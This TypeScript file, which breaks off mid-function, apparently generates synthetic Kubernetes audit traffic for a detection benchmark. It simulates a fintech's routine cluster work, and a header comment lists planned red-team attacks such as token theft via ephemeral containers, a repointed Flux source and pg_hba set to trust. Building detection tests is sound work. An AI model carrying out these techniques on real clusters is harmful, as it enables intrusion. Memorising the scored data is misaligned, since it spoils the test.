import { LINUX, MAC, PLATFORM_HINT, WS_UPGRADE, prng, withAttacks, attackAdder, type AttackRequest, type DayEvent, type Login } from './workday.js';

/**
 * A twelfth replayed day, written as an outside red team and an outside observer would after
 * reading docs/risk.md, from situations days 1–11 do not have: a 40-person regulated fintech with
 * two clusters behind one gateway (`kubernetes.syd.fin.example` and `kubernetes.dub.fin.example`,
 * the same namespaces on both, payments active-active), GitOps with Flux, CloudNativePG for
 * Postgres, and the on-call handed over from Sydney (UTC+11 in March: 09:00–18:00 is 22:00–07:00
 * UTC the evening before) to Dublin (UTC) at 07:00 UTC. Warm-up Wednesday 3 March 2027, scored
 * Thursday 4 March (Sydney's Thursday begins at 22:00 UTC on Wednesday). Hours below are UTC.
 *
 * Routine, as the tools send it:
 * - a pairing session (10:00–11:00): the new engineer (second day) drives the host's laptop with
 *   the host's login, twice the host's pace, `kubectl explain` (OpenAPI v3), describe, logs, a
 *   Secret in staging, a shell in dev;
 * - a commuter on the 07:30 Maynooth train, tethered to a phone on Three Ireland (a new /24 of the
 *   carrier's /16 every ~12 minutes) and, between tunnels, the train's own Wi-Fi, then the office;
 * - the quarterly access review: an auditor with no history on the cluster reads RBAC on both
 *   clusters (`kubectl get roles,rolebindings -A`, ClusterRoles and bindings, `kubectl who-can`
 *   per namespace: its own client-go agent), read-only, 10:00–12:30 and 14:00–15:30;
 * - CloudNativePG failover at 11:00 (`kubectl cnpg status`: the Cluster, its pods, its
 *   certificates' Secrets, a `psql` exec in the primary; `kubectl cnpg promote`: a merge patch of
 *   the Cluster's status), then the legacy MySQL StatefulSet scaled and its primary Service's
 *   selector patched, the operator's backup Secret read;
 * - `kubectl debug` with an ephemeral container in payments-prod during the 09:10 incident (the
 *   strategic-merge patch of `pods/ephemeralcontainers`, then the attach over WebSocket), k9s;
 * - `flux reconcile kustomization apps --with-source` (annotations patched on the GitRepository,
 *   then the Kustomization; polled), `flux get kustomizations -A`;
 * - `cmctl renew` of the wildcard certificate (the Certificate's status updated) at 13:00;
 * - `helm upgrade` of payments-api in staging (Helm 3.16: release records);
 * - Grafana and Argo CD in Chrome; CI deploying to staging on both clusters every 20 minutes.
 *
 * The attacks, each from where an outside red team would stand (stratus-red-team, Peirates,
 * KubeHound's edges): an ephemeral container added to a production pod to read its token; the
 * kubelet's exec through `nodes/proxy` as a WebSocket GET; a Flux GitRepository repointed to an
 * attacker branch and a Kustomization's path; a Helm release record rewritten (the next `helm
 * rollback` applies it); a year-long token for the database operator's account; a
 * ValidatingAdmissionPolicyBinding removed and a MutatingAdmissionPolicy planted; a CronJob running
 * as the database operator in its own quiet namespace; a port-forward to the production database at
 * 04:10 in Sydney from the Sydney on-call's laptop; the Sydney on-call's token used at the Dublin
 * office during the handover; the pairing partner keeping the host's token; Postgres's `pg_hba`
 * opened to `trust`; Secrets read on the other cluster with a Dublin engineer's token.
 */

export const D12_WED = Date.UTC(2027, 2, 3, 0, 0, 0); // warm-up
export const D12_THU = Date.UTC(2027, 2, 4, 0, 0, 0); // the scored day
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const SYD = 'kubernetes.syd.fin.example';
export const DUB = 'kubernetes.dub.fin.example';

const KUBECTL = (os: string) => `kubectl/v1.32.2 (${os}) kubernetes/67a30c0`;
const CLIENT_GO = (bin: string, os: string) => `${bin}/v0.0.0 (${os}) kubernetes/$Format`;
const HELM = 'Helm/3.16.4';
const FLUX = (os: string) => `flux/v2.4.0 (${os})`;
const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36`;
const CH_UA = '"Chromium";v="134", "Not:A-Brand";v="24", "Google Chrome";v="134"';

const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const JSONPATCH = { 'content-type': 'application/json-patch+json' };
const JSON_CT = { 'content-type': 'application/json' };
const WS = WS_UPGRADE;
const WS_PF = { connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-protocol': 'v4.channel.k8s.io' };

const TEAMS = ['payments', 'ledger', 'fraud'] as const;

type Where = 'syd-office' | 'syd-home' | 'dub-office' | 'dub-home' | 'train';
type Kind = 'dev' | 'helm' | 'k9s' | 'host' | 'newbie' | 'commuter' | 'auditor' | 'dba' | 'flux' | 'oncall' | 'syd-oncall';
/** [from hour, to hour, where] in UTC, relative to the day's 00:00; Sydney's start before it. */
type Sitting = [number, number, Where];

interface Person {
  name: string;
  idx: number;
  svc: string;
  kind: Kind;
  os: string;
  kubectlOs: string;
  syd: boolean;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (name: string, kind: Kind, svc: string, warm: Sitting[], scored: Sitting[], os = MAC, syd = false) => {
    const j = () => (rand() - 0.5) * 0.3;
    out.push({
      name: `d12-${name}@fin.example`,
      idx: out.length,
      svc,
      kind,
      os,
      kubectlOs: os === MAC ? 'darwin/arm64' : 'linux/amd64',
      syd,
      warm: warm.map(([a, b, w]) => [a + j(), b + j(), w]),
      scored: scored.map(([a, b, w]) => [a + j(), b + j(), w]),
      lunch: (syd ? 2 : 12.5) + rand() * 0.4,
    });
  };
  add('syd-0', 'dev', 'payments', [[-1.9, 6.8, 'syd-office']], [[-1.8, 6.9, 'syd-office']], LINUX, true);
  add('syd-1', 'k9s', 'ledger', [[-1.6, 6.5, 'syd-home']], [[-1.7, 6.6, 'syd-home']], MAC, true);
  // Sydney's on-call: until the handover at 07:00, and paged as secondary at 02:30 Sydney (15:30 UTC).
  add('syd-oncall', 'syd-oncall', 'payments', [[-1.8, 7, 'syd-office']], [[-1.9, 7.05, 'syd-office'], [15.5, 16.1, 'syd-home']], LINUX, true);
  add('dub-0', 'helm', 'payments', [[8.5, 17.4, 'dub-office']], [[8.6, 17.5, 'dub-office']], LINUX);
  add('dub-1', 'k9s', 'ledger', [[8.8, 17.3, 'dub-home']], [[8.9, 17.4, 'dub-home']]);
  add('host', 'host', 'payments', [[8.7, 17.2, 'dub-office']], [[8.7, 17.3, 'dub-office']]);
  // The new engineer's first day (the warm-up) and second (scored), at the office.
  add('newbie', 'newbie', 'payments', [[10, 17, 'dub-office']], [[9, 17.2, 'dub-office']]);
  add('commuter', 'commuter', 'fraud', [[7.5, 8.65, 'train'], [9, 17, 'dub-office']], [[7.5, 8.7, 'train'], [9.05, 17.1, 'dub-office']], LINUX);
  add('auditor', 'auditor', 'compliance', [], [[10, 12.5, 'dub-office'], [14, 15.5, 'dub-office']], MAC);
  add('dba', 'dba', 'data', [[8.6, 17.3, 'dub-office']], [[8.5, 17.4, 'dub-office']], LINUX);
  add('flux', 'flux', 'platform', [[8.4, 17, 'dub-office']], [[8.5, 17.1, 'dub-office']], LINUX);
  // Dublin's on-call from 07:00: home, then the office after the incident.
  add('oncall', 'oncall', 'payments', [[7, 9.5, 'dub-home'], [10, 17, 'dub-office']], [[7, 9.8, 'dub-home'], [10.1, 17.2, 'dub-office']], MAC);
  return out;
}

/** Three Ireland's carrier NAT: a new /24 of its /16 every ~12 minutes on the move. */
const THREE_IE = (t: number, day: number) => `37.228.${200 + Math.floor((t - day) / (12 * M)) % 40}.${(Math.floor(t / M) * 13) % 200 + 20}`;
/** Irish Rail's on-board Wi-Fi egress, between tunnels. */
const TRAIN_WIFI = '185.46.212.18';

function addressOf(p: Person, where: Where, t: number, day: number, n: number): string {
  const i = p.idx;
  switch (where) {
    case 'syd-office':
      return `10.41.${i % 4}.${40 + i}`;
    case 'dub-office':
      return `10.40.${i % 4}.${40 + i}`;
    case 'syd-home':
      // Telstra and Aussie Broadband: each home its own fixed address.
      return i % 2 ? `120.18.${100 + i}.${20 + i}` : `103.216.${60 + i}.${80 + i}`;
    case 'dub-home':
      // Eir and Virgin Media Ireland.
      return i % 2 ? `86.44.${100 + i}.${20 + i}` : `89.101.${60 + i}.${80 + i}`;
    case 'train':
      return n % 5 === 4 ? TRAIN_WIFI : THREE_IE(t, day);
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean; cluster?: string };

const pod = (app: string, rand: () => number) => `${app}-6f8b9c-${['k2x7q', 'm4v9p', 'r8w3z', 't5n6c'][Math.floor(rand() * 4)]}`;

/** A plain day's kubectl work in the team's namespaces. */
function appTask(rand: () => number, team: string, prodShare = 0.2): Req[] {
  const r = rand();
  const ns = r < 1 - prodShare - 0.3 ? `${team}-dev` : r < 1 - prodShare ? `${team}-staging` : `${team}-prod`;
  const po = pod(`${team}-api`, rand);
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&tailLines=200` }];
  if (k < 0.55) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${team}-db-app` }];
  if (k < 0.64) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (k < 0.68) return [{ method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${team}-api?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-03-04T10:00:00Z' } } } } }) }];
  if (k < 0.8) return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/services?limit=500` }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

/** The same reads as k9s sends them (its client-go agent, a watch after each list). */
function k9sTask(rand: () => number, team: string, os: string): Req[] {
  const ua = CLIENT_GO('k9s', os);
  const ns = `${team}-${['dev', 'staging', 'prod'][Math.floor(rand() * 3)]}`;
  const k = rand();
  if (k < 0.5) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500`, ua }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?allowWatchBookmarks=true&resourceVersion=0&watch=true`, ua }];
  if (k < 0.75) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500`, ua }];
  if (k < 0.9) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod(`${team}-api`, rand)}/log?container=api&follow=true&tailLines=100&timestamps=true`, ua }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${team}-db-app`, ua }];
}

function browserTask(rand: () => number, team: string): Req[] {
  if (rand() < 0.6)
    return [
      { method: 'GET', host: 'grafana.localhost', path: `/d/pg-overview/postgres?orgId=1&var-namespace=${team}-prod` },
      { method: 'POST', host: 'grafana.localhost', path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: `sum(rate(http_requests_total{namespace="${team}-prod"}[5m]))` }], from: 'now-1h', to: 'now' }) },
    ];
  return [
    { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications?projects=${team}` },
    { method: 'GET', host: 'argocd.localhost', path: `/api/v1/applications/${team}-prod/resource-tree?appNamespace=argocd` },
  ];
}

/** The pairing session: the new engineer at the host's keyboard, exploring what the host shows. */
function pairingTask(rand: () => number): Req[] {
  const k = rand();
  const ns = ['payments-dev', 'payments-staging', 'payments-prod'][Math.floor(rand() * 3)]!;
  const po = pod('payments-api', rand);
  if (k < 0.2) return [{ method: 'GET', path: '/openapi/v3?timeout=32s' }, { method: 'GET', path: '/openapi/v3/apis/apps/v1?hash=2C3A0B1F&timeout=32s' }];
  if (k < 0.45) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?fieldSelector=involvedObject.name%3D${po}%2CinvolvedObject.namespace%3D${ns}%2CinvolvedObject.uid%3D7d1e2f3a&limit=500` }];
  if (k < 0.65) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&tailLines=50` }];
  if (k < 0.75) return [{ method: 'GET', path: '/api/v1/namespaces/payments-staging/secrets/payments-db-app' }];
  if (k < 0.85) return [{ method: 'GET', path: `/api/v1/namespaces/payments-dev/pods/${po}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`, headers: WS }];
  return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/payments-api` }, { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/replicasets?labelSelector=app%3Dpayments-api` }];
}

/** The quarterly access review on one cluster: RBAC everywhere, read-only, with kubectl and kubectl-who-can. */
function accessReview(os: string, namespaces: readonly string[]): Req[] {
  const who = CLIENT_GO('kubectl-who-can', os);
  const out: Req[] = [
    { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500' },
    { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500' },
    { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/roles?limit=500' },
    { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/rolebindings?limit=500' },
    { method: 'GET', path: '/api/v1/serviceaccounts?limit=500' },
  ];
  for (const ns of namespaces)
    out.push(
      { method: 'GET', path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/roles`, ua: who },
      { method: 'GET', path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings`, ua: who },
      { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings', ua: who },
      { method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', headers: JSON_CT, body: JSON.stringify({ kind: 'SelfSubjectAccessReview', apiVersion: 'authorization.k8s.io/v1', spec: { resourceAttributes: { namespace: ns, verb: 'list', resource: 'rolebindings', group: 'rbac.authorization.k8s.io' } } }), ua: who },
    );
  return out;
}

const NAMESPACES = [...TEAMS.flatMap((t) => [`${t}-dev`, `${t}-staging`, `${t}-prod`]), 'cnpg-system', 'flux-system', 'cert-manager', 'ingress-nginx', 'monitoring', 'kube-system'];

/** `kubectl cnpg status` then `kubectl cnpg promote`, the MySQL StatefulSet and its primary Service. */
function failover(): Req[] {
  const cl = '/apis/postgresql.cnpg.io/v1/namespaces/payments-prod/clusters/payments-db';
  const ua = CLIENT_GO('kubectl-cnpg', 'linux/amd64');
  return [
    { method: 'GET', path: cl, ua },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/pods?labelSelector=cnpg.io%2Fcluster%3Dpayments-db', ua },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/secrets/payments-db-ca', ua },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/secrets/payments-db-server', ua },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/secrets/payments-db-replication', ua },
    { method: 'POST', path: '/api/v1/namespaces/payments-prod/pods/payments-db-1/exec?command=psql&command=-AXtc&command=SELECT+*+FROM+pg_stat_replication&container=postgres&stderr=true&stdout=true', ua },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/pods/payments-db-1/log?container=postgres&tailLines=200' },
    { method: 'PATCH', path: `${cl}/status`, headers: MERGE, body: JSON.stringify({ status: { targetPrimary: 'payments-db-2', targetPrimaryTimestamp: '2027-03-04T11:02:13.000000Z', phase: 'Switchover in progress', phaseReason: 'Switching over to payments-db-2' } }), ua },
    { method: 'GET', path: cl, ua },
    { method: 'GET', path: cl, ua },
    { method: 'GET', path: '/apis/apps/v1/namespaces/ledger-prod/statefulsets/ledger-mysql' },
    { method: 'PATCH', path: '/apis/apps/v1/namespaces/ledger-prod/statefulsets/ledger-mysql/scale', headers: MERGE, body: JSON.stringify({ spec: { replicas: 2 } }) },
    { method: 'GET', path: '/api/v1/namespaces/ledger-prod/pods?labelSelector=app%3Dledger-mysql' },
    { method: 'PATCH', path: '/api/v1/namespaces/ledger-prod/services/ledger-mysql-primary?fieldManager=kubectl-patch', headers: SMP, body: JSON.stringify({ spec: { selector: { 'statefulset.kubernetes.io/pod-name': 'ledger-mysql-1' } } }) },
    { method: 'GET', path: '/api/v1/namespaces/ledger-prod/endpoints/ledger-mysql-primary' },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/secrets/payments-db-backup-s3' },
    { method: 'GET', path: '/api/v1/namespaces/cnpg-system/pods?labelSelector=app.kubernetes.io%2Fname%3Dcloudnative-pg' },
    { method: 'GET', path: '/api/v1/namespaces/cnpg-system/pods/cnpg-controller-manager-5d7f9b-x2k4p/log?tailLines=300' },
    { method: 'PATCH', path: '/apis/apps/v1/namespaces/ledger-prod/statefulsets/ledger-mysql/scale', headers: MERGE, body: JSON.stringify({ spec: { replicas: 3 } }) },
  ];
}

function dbaTask(rand: () => number): Req[] {
  const k = rand();
  const ns = ['payments-prod', 'ledger-prod', 'payments-staging'][Math.floor(rand() * 3)]!;
  if (k < 0.35) return [{ method: 'GET', path: `/apis/postgresql.cnpg.io/v1/namespaces/${ns}/clusters?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=cnpg.io%2Fcluster&limit=500` }];
  if (k < 0.55) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${ns.split('-')[0]}-db-1/log?container=postgres&tailLines=200` }];
  if (k < 0.7) return [{ method: 'GET', path: '/api/v1/namespaces/cnpg-system/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/cnpg-system/pods/cnpg-controller-manager-5d7f9b-x2k4p/log?tailLines=100' }];
  if (k < 0.8) return [{ method: 'GET', path: `/apis/postgresql.cnpg.io/v1/namespaces/${ns}/backups?limit=500` }];
  if (k < 0.9) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${ns.split('-')[0]}-db-app` }];
  return [{ method: 'GET', path: '/apis/apps/v1/namespaces/ledger-prod/statefulsets?limit=500' }];
}

/** `flux reconcile kustomization <ks> --with-source`: the source's annotation, the Kustomization's, then polling. */
function fluxReconcile(ks: string, os: string): Req[] {
  const ua = FLUX(os);
  const at = new Date(Date.UTC(2027, 2, 4, 10)).toISOString();
  const ann = JSON.stringify({ metadata: { annotations: { 'reconcile.fluxcd.io/requestedAt': at } } });
  const kp = `/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/flux-system/kustomizations/${ks}`;
  const gp = '/apis/source.toolkit.fluxcd.io/v1/namespaces/flux-system/gitrepositories/flux-system';
  return [
    { method: 'GET', path: kp, ua },
    { method: 'GET', path: gp, ua },
    { method: 'PATCH', path: gp, headers: MERGE, body: ann, ua },
    { method: 'GET', path: gp, ua },
    { method: 'GET', path: gp, ua },
    { method: 'PATCH', path: kp, headers: MERGE, body: ann, ua },
    { method: 'GET', path: kp, ua },
    { method: 'GET', path: kp, ua },
    { method: 'GET', path: kp, ua },
  ];
}

function platformTask(rand: () => number, os: string): Req[] {
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: '/apis/kustomize.toolkit.fluxcd.io/v1/kustomizations?limit=500', ua: FLUX(os) }, { method: 'GET', path: '/apis/source.toolkit.fluxcd.io/v1/gitrepositories?limit=500', ua: FLUX(os) }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/flux-system/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/flux-system/pods/kustomize-controller-7b9d5c-q2w8e/log?tailLines=200' }];
  if (k < 0.65) return [{ method: 'GET', path: '/apis/cert-manager.io/v1/certificates?limit=500' }];
  if (k < 0.8) return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
  return [{ method: 'GET', path: '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings' }];
}

/** `cmctl renew wildcard-tls -n ingress-nginx`: the Certificate, its status given an Issuing condition, then the new request and Secret. */
function certRenew(os: string): Req[] {
  const ua = CLIENT_GO('cmctl', os);
  const c = '/apis/cert-manager.io/v1/namespaces/ingress-nginx/certificates/wildcard-tls';
  return [
    { method: 'GET', path: c, ua },
    { method: 'PUT', path: `${c}/status`, headers: JSON_CT, body: JSON.stringify({ apiVersion: 'cert-manager.io/v1', kind: 'Certificate', metadata: { name: 'wildcard-tls', namespace: 'ingress-nginx', resourceVersion: '88123401' }, status: { conditions: [{ type: 'Ready', status: 'True' }, { type: 'Issuing', status: 'True', reason: 'ManuallyTriggered', message: 'Certificate re-issuance manually triggered' }] } }), ua },
    { method: 'GET', path: '/apis/cert-manager.io/v1/namespaces/ingress-nginx/certificaterequests?labelSelector=', ua },
    { method: 'GET', path: c, ua },
    { method: 'GET', path: '/api/v1/namespaces/ingress-nginx/secrets/wildcard-tls', ua },
  ];
}

const releaseSecret = (rel: string, ns: string, v: number, status: string, blob = 'H4sIAAAAAAAC/+y9a3PbRpYw/FcQ') =>
  JSON.stringify({ kind: 'Secret', apiVersion: 'v1', metadata: { name: `sh.helm.release.v1.${rel}.v${v}`, namespace: ns, labels: { name: rel, owner: 'helm', status, version: String(v) } }, type: 'helm.sh/release.v1', data: { release: blob } });

/** `helm upgrade payments-api ./chart -n payments-staging`, as Helm 3.16 sends it. */
function helmUpgrade(ns: string, v: number): Req[] {
  const rel = 'payments-api';
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets?labelSelector=name%3D${rel}%2Cowner%3Dhelm%2Cstatus%3Ddeployed` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets?labelSelector=name%3D${rel}%2Cowner%3Dhelm` },
    { method: 'POST', path: `/api/v1/namespaces/${ns}/secrets`, headers: JSON_CT, body: releaseSecret(rel, ns, v, 'pending-upgrade') },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${rel}` },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${rel}`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `ghcr.io/fin-example/payments-api:v3.${v}.0` }] } } } }) },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=app%3D${rel}` },
    { method: 'PUT', path: `/api/v1/namespaces/${ns}/secrets/sh.helm.release.v1.${rel}.v${v - 1}`, headers: JSON_CT, body: releaseSecret(rel, ns, v - 1, 'superseded') },
    { method: 'PUT', path: `/api/v1/namespaces/${ns}/secrets/sh.helm.release.v1.${rel}.v${v}`, headers: JSON_CT, body: releaseSecret(rel, ns, v, 'deployed') },
  ].map((q) => ({ ...q, ua: HELM }));
}

/** The 09:10 incident on payments-api in Dublin: k9s, logs, `kubectl debug`, a port-forward to the database, a restart. */
function incident(os: string): Req[] {
  const ns = 'payments-prod';
  const po = 'payments-api-6f8b9c-m4v9p';
  const k9s = CLIENT_GO('k9s', os);
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500`, ua: k9s },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?allowWatchBookmarks=true&resourceVersion=0&watch=true`, ua: k9s },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=api&follow=true&tailLines=100&timestamps=true`, ua: k9s },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` },
    // kubectl debug -it payments-api-… --image=busybox:1.37 --target=api
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` },
    { method: 'PATCH', path: `/api/v1/namespaces/${ns}/pods/${po}/ephemeralcontainers`, headers: SMP, body: JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-7xq2k', image: 'busybox:1.37', stdin: true, tty: true, targetContainerName: 'api', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent', resources: {} }] } }) },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/attach?container=debugger-7xq2k&stdin=true&stdout=true&tty=true`, headers: WS },
    // kubectl port-forward svc/payments-db-rw 5432
    { method: 'GET', path: `/api/v1/namespaces/${ns}/services/payments-db-rw` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=cnpg.io%2Fcluster%3Dpayments-db%2Crole%3Dprimary` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-db-1/portforward?ports=5432`, headers: WS_PF },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/payments-db-app` },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/payments-api?fieldManager=kubectl-rollout`, headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-03-04T09:24:00Z' } } } } }) },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?fieldSelector=metadata.name%3Dpayments-api&resourceVersion=0&watch=true` },
  ];
}

/** The Sydney on-call's handover checks on both clusters, and the 02:30 (Sydney) page. */
function handover(): Req[] {
  return [SYD, DUB].flatMap((cluster) => [
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/pods?limit=500', cluster },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/events?limit=500', cluster },
    { method: 'GET', path: '/apis/postgresql.cnpg.io/v1/namespaces/payments-prod/clusters/payments-db', cluster },
  ]);
}
function nightPage(): Req[] {
  const ns = 'payments-prod';
  return [
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-api-6f8b9c-k2x7q/log?container=api&tailLines=500` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods?labelSelector=cnpg.io%2Fcluster%3Dpayments-db%2Crole%3Dprimary` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-db-1/portforward?ports=5432`, headers: WS_PF },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/payments-db-app` },
    { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/payments-db-1/log?container=postgres&tailLines=500` },
  ];
}

/** The cluster a person's kubectl talks to: Sydney's for the Sydney staff, Dublin's otherwise, the other one now and then. */
function clusterOf(p: Person, rand: () => number): string {
  const home = p.syd ? SYD : DUB;
  return rand() < 0.15 ? (home === SYD ? DUB : SYD) : home;
}

export function workday12(seed = 101): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 12);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D12_WED, D12_THU]) {
    const scored = day === D12_THU;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const sittings = scored ? p.scored : p.warm;
      if (sittings.length === 0) continue;
      const mine: DayEvent[] = [];
      const signIn = (t: number): Login => ({ sub: p.name, sid: `${p.name}:${t}`, authTime: Math.floor((t - 40 * S) / 1000), acr: 'urn:stepgate:aal2' });
      // One sign-in a day, 40 s before the first request; the Sydney on-call signs in again when paged at night.
      let login = signIn(at(sittings[0]![0]));
      let n = 0;
      sittings.forEach(([from, to, where], si) => {
        if (p.kind === 'syd-oncall' && si === 1) login = signIn(at(from));
        const sittingLogin = login;
        const push = (t: number, q: Req) => {
          const browser = q.browser === true || q.host !== undefined;
          const ua = q.ua ?? (browser ? CHROME(p.os) : KUBECTL(p.kubectlOs));
          const hints = browser ? { 'sec-ch-ua': CH_UA, 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': PLATFORM_HINT[p.os]! } : undefined;
          const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
          mine.push({
            at: Math.round(t),
            actor: p.name,
            scored,
            ip: addressOf(p, where, t, day, n++),
            ua,
            login: sittingLogin,
            method: q.method,
            path: q.path,
            host: q.host ?? q.cluster ?? (p.syd ? SYD : DUB),
            ...(headers ? { headers } : {}),
            ...(q.body !== undefined ? { body: q.body } : {}),
          });
        };
        const seq = (t: number, reqs: Req[], gapMs: number) => reqs.forEach((q, k) => push(t + k * gapMs, q));
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.7 && to > p.lunch + 0.7 && from < p.lunch) {
            t = at(p.lunch + 0.7) + S;
            continue;
          }
          const cluster = clusterOf(p, rand);
          let reqs: Req[];
          if (p.kind === 'auditor') reqs = [{ method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500' }, { method: 'GET', path: '/api/v1/namespaces?limit=500' }];
          else if (rand() < 0.1) reqs = browserTask(rand, p.svc === 'platform' || p.svc === 'data' || p.svc === 'compliance' ? 'payments' : p.svc).map((q) => ({ ...q, browser: true }));
          else if (p.kind === 'k9s' && rand() < 0.7) reqs = k9sTask(rand, p.svc, p.kubectlOs);
          else if (p.kind === 'flux') reqs = rand() < 0.25 ? fluxReconcile(['apps', 'infrastructure'][Math.floor(rand() * 2)]!, p.kubectlOs) : platformTask(rand, p.kubectlOs);
          else if (p.kind === 'dba') reqs = dbaTask(rand);
          else if (p.kind === 'newbie') reqs = appTask(rand, p.svc, 0).filter((q) => q.method === 'GET');
          else reqs = appTask(rand, p.svc);
          const gap = 500 + rand() * 1500;
          reqs.forEach((q, k) => push(t + k * gap, { ...q, cluster }));
          // The commuter's bursts are shorter between tunnels; everyone else's every 5–15 minutes.
          t += (where === 'train' ? 3 : 5) * M + rand() * 10 * M;
        }
        const run = (tt: number, reqs: Req[], gapMs: number, clearMin: number) => {
          for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - 2 * M && mine[k]!.at <= tt + clearMin * M) mine.splice(k, 1);
